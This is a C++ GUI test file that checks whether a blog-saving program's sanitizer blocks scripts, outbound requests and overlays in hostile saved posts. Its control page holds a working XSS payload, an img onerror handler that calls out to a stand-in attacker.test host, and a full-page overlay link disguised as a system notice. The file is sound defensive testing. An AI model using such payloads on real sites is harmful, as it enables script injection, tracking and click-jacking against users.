// A save given what it must not trust. The copy of a blog an attacker wrote, opened in the
// program's own browser as it was written and with the page's own guards (its
// Content-Security-Policy, the clip around each post) taken out: the cleaning alone must keep
// every script from running, every request from leaving (no refresh, no form, no other base),
// every post in view and every post off the page's own heading and links. And an address that
// names no blog: nothing is written.

#include "tests/gui/form1_fixture.h"

#include "platform/files.h"
#include "platform/text.h"
#include "tests/support/temp_folder.h"
#include "tools/sample_blog/blog_model.h"
#include "tools/sample_blog/hostile_post.h"

#include <filesystem>
#include <fstream>
#include <iterator>
#include <regex>
#include <set>
#include <sstream>

using gui_testing::click;
using gui_testing::file_address;
using gui_testing::Form1Fixture;
using gui_testing::ListAtStart;
using gui_testing::UserFolderFixture;
using gui_testing::wait_until;
using Texts = std::vector<std::u16string>;
namespace fs = std::filesystem;

namespace {

const sample_blog::SampleBlog hostile_blog(u"someone", {.posts = sample_blog::k_hostile_posts,
                                                        .per_page = 10,
                                                        .hostile = true});

// What the page's document holds, read by a script of the program's own world. `markers` are
// the texts that must be in view.
std::string inspection(const std::vector<std::u16string>& markers) {
    std::string list;
    for (const std::u16string& marker : markers) {
        list += (list.empty() ? "'" : ",'") + platform::utf16_to_utf8(marker) + "'";
    }
    return "(() => { const all = Array.from(document.querySelectorAll('body *'));"
           "return ['ran:' + document.title.startsWith('ran-'),"
           "'base:' + (document.baseURI === location.href),"
           "'active:' + document.querySelectorAll('base,meta[http-equiv],form,iframe,object,"
           "embed,svg,math,script,input,button,select,textarea,link').length,"
           "'styles:' + document.querySelectorAll('style').length,"
           "'placed:' + all.filter(e => ['fixed','absolute','sticky'].includes("
           "getComputedStyle(e).position)).length,"
           "'handlers:' + all.filter(e => Array.from(e.attributes).some(a => "
           "a.name.startsWith('on'))).length,"
           "'addresses:' + all.map(e => e.href || e.src || '').filter(a => a && "
           "!/^(https?|file):/.test(a)).join(' '),"
           "'shown:' + [" +
           list +
           "].filter(m => document.body.innerText.includes(m)).length,"
           // What a reader who points at the page's own heading or links reaches.
           "...(() => { const own = Array.from(document.querySelectorAll("
           "'nav > *, h1, article.post > h2, p.source > a'));"
           "const covered = own.filter(e => {"
           "e.scrollIntoView({block: 'center', inline: 'center'});"
           "const box = e.getClientRects()[0];"
           "const hit = box && document.elementFromPoint(box.left + box.width / 2,"
           "box.top + box.height / 2);"
           "return !hit || !e.contains(hit); });"
           "return ['own:' + own.length, 'covered:' + covered.map(e => e.textContent).join('|')];"
           "})()]; })()";
}

// `own`: how many of the page's own headings and links are pointed at.
Texts expected_inspection(std::size_t markers, std::size_t own) {
    const auto number = [](std::size_t n) { return platform::decimal(static_cast<long long>(n)); };
    return {u"ran:false",          u"base:true",  u"active:0",   u"styles:1",
            u"placed:0",           u"handlers:0", u"addresses:", u"shown:" + number(markers),
            u"own:" + number(own), u"covered:"};
}

class HostileCopyTest : public UserFolderFixture {
protected:
    explicit HostileCopyTest(std::vector<std::string> service_arguments =
                                 {"--posts", std::to_string(sample_blog::k_hostile_posts),
                                  "--per-page", "10", "--hostile"})
        : UserFolderFixture(std::move(service_arguments), "someone", ListAtStart::empty) {}

    // Shows the page, gives whatever it holds time to fire (a refresh after a second, an
    // error handler, an autofocus), and reads it.
    Texts shown(const fs::path& page, const std::vector<std::u16string>& markers) {
        platform::WebBrowser& browser = form().WebBrowser1;
        browser.Navigate2(file_address(page));
        const std::uint64_t serial = browser.navigation_serial();
        EXPECT_TRUE(wait_until([&] { return browser.completed_serial() == serial; }, 20));
        wait_until([] { return false; }, 2.5);
        EXPECT_EQ(browser.current_address(), file_address(page)) << "the page went elsewhere";
        std::optional<std::optional<Texts>> answer;
        browser.read_strings(inspection(markers),
                             [&](std::optional<Texts> texts) { answer = std::move(texts); });
        EXPECT_TRUE(wait_until([&] { return answer.has_value(); }, 10));
        return answer && *answer ? **answer : Texts{u"unreadable"};
    }

    // The requests for the attacker's addresses since `before` (a request log).
    std::string attacker_requests(const std::string& before) {
        const std::string log = service().request_log().substr(before.size());
        std::string found;
        std::istringstream lines(log);
        for (std::string line; std::getline(lines, line);) {
            if (line.find("attacker.test") != std::string::npos) {
                found += line + "\n";
            }
        }
        return found;
    }

    // Every page of the copy in `folder`, judged as a reader sees it; `csp`: whether its pages
    // keep their Content-Security-Policy meta (the one active element they may hold).
    void expect_every_page_safe(const fs::path& folder, const std::vector<std::u16string>& markers,
                                bool csp) {
        const std::size_t posts = markers.size();
        const auto expected = [&](std::size_t shown_markers, std::size_t own) {
            Texts texts = expected_inspection(shown_markers, own);
            texts[2] = csp ? u"active:1" : u"active:0";
            return texts;
        };
        // The index: its heading and its link to all.html. All posts: its heading, its link to
        // the index, and each post's heading and source link. A post: its heading, its source
        // link and twice the links to the index, the previous and the next post.
        EXPECT_EQ(shown(folder / "index.html", {}), expected(0, 2));
        EXPECT_EQ(shown(folder / "all.html", markers), expected(posts, 2 + 2 * posts));
        for (std::size_t n = 1; n <= posts; ++n) {
            EXPECT_EQ(shown(folder / "posts" / (std::to_string(n) + ".html"), {markers[n - 1]}),
                      expected(1, 8))
                << folder << " post " << n;
        }
    }
};

using SaveTest = HostileCopyTest;

// The copy's pages without what guards them besides the cleaning (their CSP meta and the clip
// around each post body), in a folder of their own.
void copy_without_page_guards(const fs::path& from, const fs::path& to) {
    fs::copy(from, to, fs::copy_options::recursive);
    const std::regex guards("<meta http-equiv=\"Content-Security-Policy\"[^>]*>|"
                            "article\\.post-body\\{overflow-x:auto;overflow-y:hidden\\}");
    for (const auto& entry : fs::recursive_directory_iterator(to)) {
        if (entry.path().extension() != ".html") {
            continue;
        }
        std::ifstream in(entry.path(), std::ios::binary);
        const std::string page((std::istreambuf_iterator<char>(in)), {});
        const auto found = std::distance(std::sregex_iterator(page.begin(), page.end(), guards),
                                         std::sregex_iterator());
        ASSERT_EQ(found, 2) << entry.path();
        std::ofstream(entry.path(), std::ios::binary | std::ios::trunc)
            << std::regex_replace(page, guards, "");
    }
}

} // namespace

TEST_F(HostileCopyTest,
       NoScriptRunsNoRequestLeavesAndNoPostCoversThePageWithOrWithoutThePageGuards) {
    Texts posts;
    std::vector<std::u16string> markers;
    for (int n = 1; n <= hostile_blog.post_count(); ++n) {
        posts.push_back(hostile_blog.post_address(n));
        markers.push_back(sample_blog::hostile_marker(n));
    }
    form().list1_add_links(posts);
    form().txtblog.set_text("http://hi.baidu.com/someone");
    click(form().Command2);
    ASSERT_FALSE(boxes.empty());
    ASSERT_EQ(boxes.front().text, u"保存完毕");

    const testing_support::TempFolder scratch;
    const fs::path copy = scratch.path() / "copy";
    copy_without_page_guards(user_folder() / u8"离线浏览", copy);
    const std::string before = service().request_log();

    expect_every_page_safe(user_folder() / u8"离线浏览", markers, true);
    expect_every_page_safe(copy, markers, false);
    EXPECT_EQ(attacker_requests(before), "");

    // The same look sees a payload that is let through: the test can tell.
    std::ofstream(copy / "control.html")
        << "<!DOCTYPE html><meta charset=utf-8><title>c</title><style></style><body><p>"
        << platform::utf16_to_utf8(markers[0]) << "</p><img src=x onerror=\"document.title="
        << "'ran-control';new Image().src='http://attacker.test/ran/control'\">"
        << "<nav><a href=\"1.html\">下一篇</a></nav><a href=\"http://attacker.test/fix\" "
        << "style=\"padding:4000px;background-color:white\">系统提示</a>";
    Texts control = expected_inspection(1, 1);
    control[0] = u"ran:true";
    control[5] = u"handlers:1";
    control[9] = u"covered:下一篇";
    EXPECT_EQ(shown(copy / "control.html", {markers[0]}), control);
    EXPECT_EQ(attacker_requests(before), "http://attacker.test/ran/control\n");
}

TEST_F(SaveTest, AnAddressNamingNoBlogIsReportedAndNothingIsWritten) {
    form().list1_add_links({hostile_blog.post_address(1), hostile_blog.post_address(2)});
    const auto listing = [] {
        std::set<fs::path> names;
        for (const auto& entry : fs::directory_iterator(platform::program_folder())) {
            names.insert(entry.path());
        }
        return names;
    };
    const std::set<fs::path> before = listing();
    const std::string requests = service().request_log();
    // Short of a user name, exactly the service's address, or nothing but separators after it.
    for (const char* address :
         {"http://hi.baidu.co", "http://hi.baidu.com/", "http://hi.baidu.com//"}) {
        boxes.clear();
        form().txtblog.set_text(address);
        click(form().Command2);
        EXPECT_EQ(box_texts(), Texts{u"请填写正确的百度空间地址或者检查网络是否连接！"}) << address;
        ASSERT_EQ(boxes.size(), 1u);
        EXPECT_EQ(boxes.at(0).title, u"错误提示");
        EXPECT_EQ(form().Command2.get_label(), "保存文章");
    }
    EXPECT_EQ(listing(), before);
    EXPECT_EQ(service().request_log(), requests + "/_sample/requests\n"); // no post asked for
    EXPECT_TRUE(opened.empty());
}
